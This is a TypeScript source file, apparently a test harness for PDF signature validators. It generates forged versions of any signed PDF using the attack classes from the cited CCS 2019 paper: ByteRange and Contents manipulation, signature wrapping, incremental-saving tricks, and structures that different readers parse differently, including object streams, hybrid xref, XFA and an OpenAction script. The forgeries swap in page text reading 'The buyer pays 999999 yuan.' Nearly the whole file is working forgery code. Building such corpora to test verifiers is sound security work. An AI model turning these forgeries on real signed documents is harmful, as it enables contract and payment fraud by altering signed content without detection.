// Universal signature forgery, signature wrapping and incremental saving (Mladenov et al., “1 Trillion Dollar Refund”, CCS 2019),
// and structures that readers take in two ways. Each works on any signed file.
import { openTarget, type Target, updated, withEntries, writtenWith } from './attack-target.ts';
import { bytes, lastStartXref, latin1, row, stream } from './pdf-maker.ts';

/** What an attacker makes of a signed file; undefined where the file offers no hold. */
export type Attack = readonly [name: string, make: (target: Target) => Uint8Array | undefined];

/** What an attacker wants the page to show instead. */
export const evilContent = 'BT /F1 14 Tf 60 740 Td (The buyer pays 999999 yuan.) Tj ET';
const evil = stream(evilContent);

/** Overwrites bytes from `at` on; the file keeps its length, so every offset still holds. */
function overwritten({ text }: Target, at: number, by: string): Uint8Array {
  return bytes(text.slice(0, at) + by + text.slice(at + by.length));
}

/** Changes the signature's own /ByteRange in place. */
function ranged(make: (range: [number, number, number]) => string): Attack[1] {
  return (target) => {
    const { text, signature } = target;
    const [start, end] = signature.gap;
    const at = text.lastIndexOf('/ByteRange', start);
    const after = at < 0 || start - at > 400 ? text.indexOf('/ByteRange', end) : at;
    const length = text.indexOf(']', after) + 1 - after;
    const old = /\[\s*0\s+(\d+)\s+(\d+)\s+(\d+)/.exec(text.slice(after, after + length));
    if (!old) return undefined;
    const replacement = make([Number(old[1]), Number(old[2]), Number(old[3])]);
    return replacement.length > length ? undefined : overwritten(target, after, replacement.padEnd(length));
  };
}

const contents =
  (make: (hex: string) => string): Attack[1] =>
  (target) => {
    const [start, end] = target.signature.gap;
    const hex = make(target.text.slice(start + 1, end - 1));
    return overwritten(target, start, `<${hex}>`.padEnd(end - start));
  };

/** The signature dictionary written once more, by an update. */
const redone =
  (changes: Record<string, string | null>): Attack[1] =>
  (target) =>
    updated(target, {
      [target.signature.value]: withEntries(target, target.signature.value, changes),
      ...replacedPage(target),
    });

/** The first page shows something else. */
export function replacedPage(target: Target): Record<number, string> {
  return {
    [target.page.num]: withEntries(target, target.page.num, { Contents: `${target.free} 0 R` }),
    [target.free]: evil,
  };
}

export const forgeries: Attack[] = [
  ['the range without its numbers', ranged(() => '/ByteRange []')],
  ['the range as null', ranged(() => '/ByteRange null')],
  ['no range', ranged(() => '/NoRange [0 0 0 0]')],
  ['a range of zeros', ranged(() => '/ByteRange [0 0 0 0]')],
  ['a range of the first part alone', ranged(([a]) => `/ByteRange [0 ${a}]`)],
  ['an empty second part', ranged(([a, b]) => `/ByteRange [0 ${a} ${b} 0]`)],
  ['negative numbers', ranged(([a, b]) => `/ByteRange [0 ${a} -${b} -1]`)],
  ['a range beyond the file', ranged(([a, b]) => `/ByteRange [0 ${a} ${b} 9999999]`)],
  ['a range from the second byte', ranged(([a, b, c]) => `/ByteRange [1 ${a - 1} ${b} ${c}]`)],
  ['a range of names', ranged(() => '/ByteRange [/a /b /c /d]')],
  ['zeros for the signature', contents((hex) => '0'.repeat(hex.length))],
  ['nothing for the signature', contents(() => '')],
  ['one zero for the signature', contents(() => '00')],
  ['half of the signature', contents((hex) => hex.slice(0, hex.length / 4))],
  ['something behind the signature', contents((hex) => `${hex.slice(0, -8)}deadbeef`)],
  ['an update without the signature', redone({ Contents: null })],
  ['an update with null for the signature', redone({ Contents: 'null' })],
  ['an update without the range', redone({ ByteRange: null })],
  ['an update with an empty signature', redone({ Contents: '<>' })],
  ['an update with a range of its own', redone({ ByteRange: '[0 10 20 30]' })],
  ['an update with another format', redone({ SubFilter: '/adbe.x509.rsa_sha1', Contents: '<00>' })],
];

/** Objects in the padding behind the signature value, and the signed tail moved to make room. */
function wrapped(target: Target, options: { moveBy: number; entry: boolean }): Uint8Array {
  const { text, signature, page } = target;
  const [start, end] = signature.gap;
  const hex = text.slice(start + 1, end - 1).replace(/(00)+$/, '');
  const tail = text.slice(end);
  const at = end + options.moveBy;
  const object = `${page.num} 0 obj\n${withEntries(target, page.num, { Contents: `${target.free} 0 R` })}\nendobj\n`;
  const content = `${target.free} 0 obj\n${evil}\nendobj\n`;
  const head = `${text.slice(0, start)}<${hex}> /ByteRange [0 ${start} ${at} ${tail.length}] >>\nendobj\n`;
  const injected = `${head}${object}${content}`;
  const moved = bytes(`${injected.padEnd(at, ' ')}${tail}`);
  if (!options.entry) return moved;
  // A last section that names the injected objects where they are.
  const table = [page.num, target.free]
    .map(
      (num, i) =>
        `${num} 1\n${String(head.length + (i === 0 ? 0 : object.length)).padStart(10, '0')} 00000 n \n`,
    )
    .join('');
  const xref = moved.length;
  const trailer = `trailer\n<< /Size ${target.free + 1} /Root ${target.root} 0 R /Prev ${lastStartXref(text) + options.moveBy} >>`;
  return bytes(`${latin1(moved)}xref\n${table}${trailer}\nstartxref\n${xref}\n%%EOF\n`);
}

export const wrappings: Attack[] = [
  ['the tail moved, objects before it', (target) => wrapped(target, { moveBy: 2000, entry: false })],
  ['the tail moved, with a section of its own', (target) => wrapped(target, { moveBy: 2000, entry: true })],
  ['objects in the padding alone', (target) => wrapped(target, { moveBy: 0, entry: false })],
  ['objects in the padding, with a section', (target) => wrapped(target, { moveBy: 0, entry: true })],
];

/** An update written by hand, with or without its parts. */
function saved(parts: {
  xref?: boolean;
  trailer?: boolean;
  startxref?: 'own' | 'old' | 'zero';
  end?: boolean;
}): Attack[1] {
  return (target) => {
    const { text } = target;
    let result = text;
    const offsets: [number, number][] = [];
    for (const [num, body] of Object.entries(replacedPage(target))) {
      offsets.push([Number(num), result.length]);
      result += `${num} 0 obj\n${body}\nendobj\n`;
    }
    const at = result.length;
    const rows = offsets.map(([num, offset]) => `${num} 1\n${String(offset).padStart(10, '0')} 00000 n \n`);
    if (parts.xref) result += `xref\n${rows.join('')}`;
    if (parts.trailer)
      result += `trailer\n<< /Size ${target.free + 1} /Root ${target.root} 0 R /Prev ${lastStartXref(text)} >>\n`;
    const named = { own: at, old: lastStartXref(text), zero: 0 };
    if (parts.startxref) result += `startxref\n${named[parts.startxref]}\n`;
    return bytes(parts.end ? `${result}%%EOF\n` : result);
  };
}

export const savings: Attack[] = [
  ['a whole update', saved({ xref: true, trailer: true, startxref: 'own', end: true })],
  ['objects alone', saved({})],
  ['objects and an end', saved({ end: true })],
  ['no table', saved({ trailer: true, startxref: 'own', end: true })],
  ['no trailer', saved({ xref: true, startxref: 'own', end: true })],
  ['no end', saved({ xref: true, trailer: true, startxref: 'own' })],
  ['no startxref', saved({ xref: true, trailer: true, end: true })],
  ['the old startxref', saved({ xref: true, trailer: true, startxref: 'old', end: true })],
  ['a startxref of zero', saved({ trailer: true, startxref: 'zero', end: true })],
  [
    'the signature copied along',
    (target) =>
      updated(target, {
        ...replacedPage(target),
        [target.signature.value]: withEntries(target, target.signature.value, {}),
      }),
  ],
  [
    'an update, and one that takes it back',
    (target) => {
      const changed = openTarget(updated(target, replacedPage(target)));
      return updated(changed, { [target.page.num]: withEntries(target, target.page.num, {}) });
    },
  ],
  ['the content freed', (target) => updated(target, {}, { free: [target.page.num] })],
];

/** The objects of an update in an object stream, behind a cross-reference stream. */
function compressed(target: Target): Uint8Array {
  const { text, free } = target;
  const packed = withEntries(target, target.page.num, { Contents: `${free} 0 R` });
  const [container, xref] = [free + 1, free + 2];
  const index = `${target.page.num} 0 `;
  let body = text;
  const contentAt = body.length;
  body += `${free} 0 obj\n${evil}\nendobj\n`;
  const containerAt = body.length;
  body += `${container} 0 obj\n${stream(index + packed, `/Type /ObjStm /N 1 /First ${index.length}`)}\nendobj\n`;
  const xrefAt = body.length;
  const rows = row(2, container, 0) + row(1, contentAt, 0) + row(1, containerAt, 0) + row(1, xrefAt, 0);
  const entries = `/Type /XRef /W [1 4 1] /Index [${target.page.num} 1 ${free} 3] /Size ${xref + 1} /Root ${target.root} 0 R /Prev ${lastStartXref(text)}`;
  return bytes(`${body}${xref} 0 obj\n${stream(rows, entries)}\nendobj\nstartxref\n${xrefAt}\n%%EOF\n`);
}

/** A table that says nothing, and a hidden stream that only newer readers look at (hybrid-reference file). */
function hybrid(target: Target): Uint8Array {
  const whole = latin1(compressed(target));
  const xrefAt = lastStartXref(whole);
  const body = whole.slice(0, whole.lastIndexOf('startxref'));
  const trailer = `trailer\n<< /Size ${target.free + 3} /Root ${target.root} 0 R /Prev ${lastStartXref(target.text)} /XRefStm ${xrefAt} >>`;
  return bytes(`${body}xref\n0 1\n0000000000 65535 f \n${trailer}\nstartxref\n${body.length}\n%%EOF\n`);
}

/** An object between those of an update, of a number that the table doesn't name; readers that search the file find it. */
function unlisted(target: Target): Uint8Array {
  const plain = latin1(updated(target, { [target.free]: '(harmless)' }));
  const at = lastStartXref(plain);
  const hidden = `${target.page.num} 0 obj\n${withEntries(target, target.page.num, { Contents: null })}\nendobj\n`;
  const closing = plain.slice(at).replace(`startxref\n${at}`, `startxref\n${at + hidden.length}`);
  return bytes(plain.slice(0, at) + hidden + closing);
}

export const confusions: Attack[] = [
  ['an object stream over an object', compressed],
  ['a hybrid section over an object', hybrid],
  [
    'a key written twice',
    (target) =>
      updated(target, {
        [target.page.num]: writtenWith(target.page.dict, {}).replace(
          />>$/,
          `/Contents ${target.free} 0 R >>`,
        ),
        [target.free]: evil,
      }),
  ],
  [
    'a root written twice',
    (target) =>
      updated(
        target,
        { [target.free]: '<< /Type /Catalog /Pages 2 0 R >>' },
        { trailer: `/Root ${target.free} 0 R` },
      ),
  ],
  ['an object that no table names', unlisted],
  [
    'another generation of an object',
    (target) => {
      const plain = latin1(updated(target, replacedPage(target)));
      return bytes(plain.replaceAll(`\n${target.page.num} 0 obj`, `\n${target.page.num} 1 obj`));
    },
  ],
  ['a second file behind the first', (target) => bytes(target.text + target.text)],
  ['a second file before the first', (target) => bytes(target.text + target.text.replace(/^%PDF/, '%pdf'))],
  ['bytes before the header', (target) => bytes(`GIF89a\n${target.text}`)],
  [
    'an update that encrypts',
    (target) =>
      updated(target, replacedPage(target), { trailer: '/Encrypt << /Filter /Standard /V 1 /R 2 >>' }),
  ],
  [
    'a dynamic form that readers draw instead of the pages',
    (target) => {
      const { document } = target.snapshot;
      const form = document.dict(document.catalog().get('AcroForm'));
      const xfa = `[(template) ${target.free} 0 R]`;
      const dictionary = form
        ? writtenWith(form, { XFA: xfa, NeedAppearances: 'true' })
        : `<< /Fields [] /XFA ${xfa} >>`;
      return updated(target, {
        [target.root]: withEntries(target, target.root, { AcroForm: dictionary }),
        [target.free]: stream('<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template/></xdp:xdp>'),
      });
    },
  ],
  [
    'a script that rewrites the page on opening',
    (target) =>
      updated(target, {
        [target.root]: withEntries(target, target.root, {
          OpenAction: '<< /S /JavaScript /JS (this.getField(0)) >>',
        }),
      }),
  ],
];
